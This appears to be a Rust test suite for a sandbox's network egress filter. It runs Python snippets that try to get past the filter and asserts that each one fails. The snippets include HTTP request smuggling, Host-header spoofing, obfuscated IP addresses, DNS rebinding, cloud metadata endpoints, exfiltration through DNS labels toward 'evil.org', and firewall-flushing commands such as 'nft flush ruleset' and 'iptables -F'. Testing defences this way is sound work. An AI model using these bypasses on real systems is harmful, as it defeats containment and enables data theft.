//! Ways around the filter, each tried from inside: numbers are those of the list that SECURITY.md names them by.

use crate::{
    both,
    common::{Run, Who},
    world::{ALLOWED, OTHER, REBOUND, World},
};

/// Runs code with the standard modules at hand, behind a gateway that lets it to [`ALLOWED`] alone.
#[track_caller]
pub fn attempt(who: Who, options: &[&str], code: &str, expected: &str) {
    let prelude = "import socket, ssl, struct, os\n\
        def tried(work):\n    try: return work()\n    except OSError as e: return type(e).__name__\n\
        def tls(address, name):\n    c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE\n    \
        return c.wrap_socket(socket.create_connection(address, 20), server_hostname=name)\n\
        def ask(address, text):\n    s = socket.create_connection(address, 20); s.sendall(text)\n    return s.makefile('rb').readline()\n";
    let done = Run::new(who).args(["--allow", ALLOWED, "-q"]).args(options).python(&format!("{prelude}{code}")).done();
    done.expect_code(0).expect_out(expected);
}

both! {
    fn n01_an_address_without_a_name(who: Who) {
        let Some(world) = World::new("n01") else { return };
        // Also the very address of the name that is allowed.
        for address in ["93.184.215.14", "93.184.215.15", "1.1.1.1"] {
            for port in [80, 443, 2222] {
                let code = format!("print(tried(lambda: ask(('{address}', {port}), b'\\0')))");
                attempt(who, &[], &code, "ConnectionResetError\n");
            }
        }
        world.assert_untouched();
    }

    fn n02_another_name_to_the_server_of_an_allowed_one(who: Who) {
        let Some(world) = World::new("n02") else { return };
        attempt(who, &[], &format!("print(tried(lambda: tls(('{ALLOWED}', 443), '{OTHER}')))"), "ConnectionResetError\n");
        attempt(who, &[], &format!("print(tried(lambda: tls(('{ALLOWED}', 443), None)))"), "ConnectionResetError\n");
        let code = format!("print(ask(('{ALLOWED}', 80), b'GET / HTTP/1.1\\r\\nHost: {OTHER}\\r\\n\\r\\n'))");
        attempt(who, &[], &code, "b'HTTP/1.1 403 Forbidden\\r\\n'\n");
        assert!(!world.reached().iter().any(|line| line.contains(OTHER)), "{:?}", world.reached());
    }

    fn n03_another_name_in_a_later_request(who: Who) {
        let Some(world) = World::new("n03") else { return };
        let code = format!(
            "import http.client\nc = http.client.HTTPConnection('{ALLOWED}', timeout=20)\n\
             c.request('GET', '/1'); print(c.getresponse().read())\n\
             c.request('GET', '/2', headers={{'Host': '{OTHER}'}})\nprint(tried(lambda: c.getresponse().status) in (403, 'ConnectionResetError'))"
        );
        attempt(who, &[], &code, &format!("b'/1 of {ALLOWED}\\n'\nTrue\n"));
        assert!(!world.reached().iter().any(|line| line.contains("/2")), "{:?}", world.reached());
    }

    fn n06_requests_within_requests(who: Who) {
        let Some(world) = World::new("n06") else { return };
        for request in [
            format!("GET http://{OTHER}/ HTTP/1.1\\r\\nHost: {ALLOWED}\\r\\n\\r\\n"),
            format!("GET / HTTP/1.1\\r\\nHost: {ALLOWED}\\r\\nHost: {OTHER}\\r\\n\\r\\n"),
            format!("GET / HTTP/1.1\\r\\nHost: {ALLOWED}\\r\\n {OTHER}\\r\\n\\r\\n"),
            format!("CONNECT {OTHER}:443 HTTP/1.1\\r\\nHost: {ALLOWED}\\r\\n\\r\\n"),
            format!("POST / HTTP/1.1\\r\\nHost: {ALLOWED}\\r\\nContent-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n"),
            format!("GET / HTTP/1.1\\r\\nHost: {ALLOWED}\\r\\nUpgrade: h2c\\r\\nConnection: upgrade\\r\\n\\r\\n"),
            "GET / HTTP/1.1\\r\\n\\r\\n".to_owned(),
        ] {
            let code = format!("print(ask(('{ALLOWED}', 80), b'{request}')[9:10])");
            attempt(who, &[], &code, "b'4'\n");
        }
        assert!(!world.reached().iter().any(|line| line.contains(" / ")), "{:?}", world.reached());
    }

    fn n09_numbers_in_disguise(who: Who) {
        let Some(world) = World::new("n09") else { return };
        let code = "for name in ('0x5db8d70e', '1572394766', '0135.0270.0327.016', '93.184.215.14.', '::ffff:93.184.215.14'):\n    \
            print(tried(lambda: ask((name, 80), b'GET / HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n')[9:12]))";
        let done = Run::new(who).args(["--allow", ALLOWED, "-q"]).python(&format!(
            "import socket\ndef ask(a, t):\n    s = socket.create_connection(a, 20); s.sendall(t)\n    return s.makefile('rb').readline()\n\
             def tried(work):\n    try: return work()\n    except OSError as e: return 'refused'\n{code}")).done().expect_code(0);
        for line in done.out().lines() {
            assert!(["refused", "b'403'"].contains(&line), "{done}");
        }
        assert_eq!(done.out().lines().count(), 5, "{done}");
        world.assert_untouched();
    }

    fn n10_an_allowed_name_that_leads_to_what_is_private(who: Who) {
        let Some(world) = World::new("n10") else { return };
        for name in [REBOUND, "rebound-to-loopback.example.org", "rebound-to-metadata.example.org", "rebound-to-host.example.org"] {
            let code = format!("print(tried(lambda: ask(('{name}', 2222), b'\\0')))");
            attempt(who, &["--allow", "*.example.org"], &code, "ConnectionResetError\n");
        }
        world.assert_untouched();
    }

    fn n11_metadata_whatever_is_allowed(who: Who) {
        let Some(world) = World::new("n11") else { return };
        let code = "for a in ('169.254.169.254', '10.9.9.9', '168.63.129.16', '100.100.100.200', '5.5.5.1', '198.18.0.1', '127.0.0.2'):\n    \
            print(tried(lambda: ask((a, 2222), b'\\0')))";
        for options in [&["--net", "public"][..], &["--net", "open", "--allow", "0.0.0.0/0"]] {
            // Nothing listens on a loopback address of its own.
            attempt(who, options, code, &("ConnectionResetError\n".repeat(6) + "ConnectionRefusedError\n"));
        }
        world.assert_untouched();
    }

    fn n12_n13_questions_for_other_servers(who: Who) {
        let Some(world) = World::new("n12") else { return };
        // A question by hand, to a server of its own, over UDP and TCP: it is we who answer, and only for what is allowed.
        let code = format!(
            "def question(name):\n    q = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0'\n    \
             return b'\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0' + q + b'\\0\\x01\\0\\x01'\n\
             for name in ('{ALLOWED}', '{OTHER}', 'secret-in-a-label.{ALLOWED}', 'x' * 60 + '.evil.org'):\n    \
             s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(20); s.connect(('8.8.8.8', 53))\n    \
             s.send(question(name)); u = s.recv(512)\n    \
             t = socket.create_connection(('1.1.1.1', 53), 20); q = question(name)\n    \
             t.sendall(struct.pack('>H', len(q)) + q); t.recv(2); v = t.recv(512)\n    \
             print(u[3] & 15, v[3] & 15, u[-4:-2] == b'\\xc6\\x12')"
        );
        attempt(who, &[], &code, "0 0 True\n3 3 False\n3 3 False\n3 3 False\n");
        world.assert_untouched();
    }

    fn n14_n15_other_protocols(who: Who) {
        let Some(world) = World::new("n14") else { return };
        let code = "for port in (443, 853, 123, 5353):\n    \
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(20); s.connect(('93.184.215.14', port)); s.send(b'x')\n    \
            print(tried(lambda: s.recv(1)))\n\
            for kind in ((socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP), (socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP), \
            (socket.AF_PACKET, socket.SOCK_RAW, 3), (socket.AF_INET, socket.SOCK_STREAM, 132), (socket.AF_VSOCK, socket.SOCK_STREAM, 0)):\n    \
            r = tried(lambda: socket.socket(*kind)); print(r if isinstance(r, str) else 'made')";
        let done = Run::new(who).args(["--net", "public", "-q"]).python(&format!(
            "import socket\ndef tried(work):\n    try: return work()\n    except OSError as e: return type(e).__name__\n{code}"
        )).done().expect_code(0);
        let out = done.out();
        assert_eq!(out.matches("ConnectionRefusedError\n").count(), 4, "{done}");
        assert!(!out.contains("made"), "{done}");
        world.assert_untouched();
    }

    fn n16_the_sixth_version(who: Who) {
        let Some(world) = World::new("n16") else { return };
        let code = "for a in ('2606:2800:220:1::1', 'fd00:ec2::254', '64:ff9b::a9fe:a9fe', 'fe80::1%eth0', 'ff02::1%eth0'):\n    \
            r = tried(lambda: socket.create_connection((a, 80), 5)); print(r if isinstance(r, str) else 'made')";
        let done = Run::new(who).args(["--net", "public", "-q"]).python(&format!(
            "import socket\ndef tried(work):\n    try: return work()\n    except OSError as e: return type(e).__name__\n{code}"
        )).done().expect_code(0);
        assert!(!done.out().contains("made"), "{done}");
        world.assert_untouched();
    }

    fn n20_n21_the_hosts_loopback_and_the_gateways_rules(who: Who) {
        let Some(world) = World::new("n20") else { return };
        let code = "print(tried(lambda: socket.create_connection(('127.0.0.1', 22), 5)))\n\
            for call in ('nft flush ruleset', 'nft list ruleset', 'ip link add x type dummy', 'ip route del default', 'ip addr flush dev eth0', 'iptables -F', \
            'unshare -Urn true && nsenter -t 1 -n true', 'ip netns add x', 'sysctl -w net.ipv4.ip_forward=1'):\n    \
            print(os.system(call + ' >/dev/null 2>&1') != 0)";
        attempt(who, &["--user", "0"], code, &("ConnectionRefusedError\n".to_owned() + &"True\n".repeat(9)));
        world.assert_untouched();
    }

    fn n28_mail(who: Who) {
        let Some(world) = World::new("n28") else { return };
        let code = format!("for port in (25, 465, 587): print(tried(lambda: ask(('{OTHER}', port), b'\\0')))");
        attempt(who, &["--net", "public"], &code, &"ConnectionResetError\n".repeat(3));
        world.assert_untouched();
    }
}
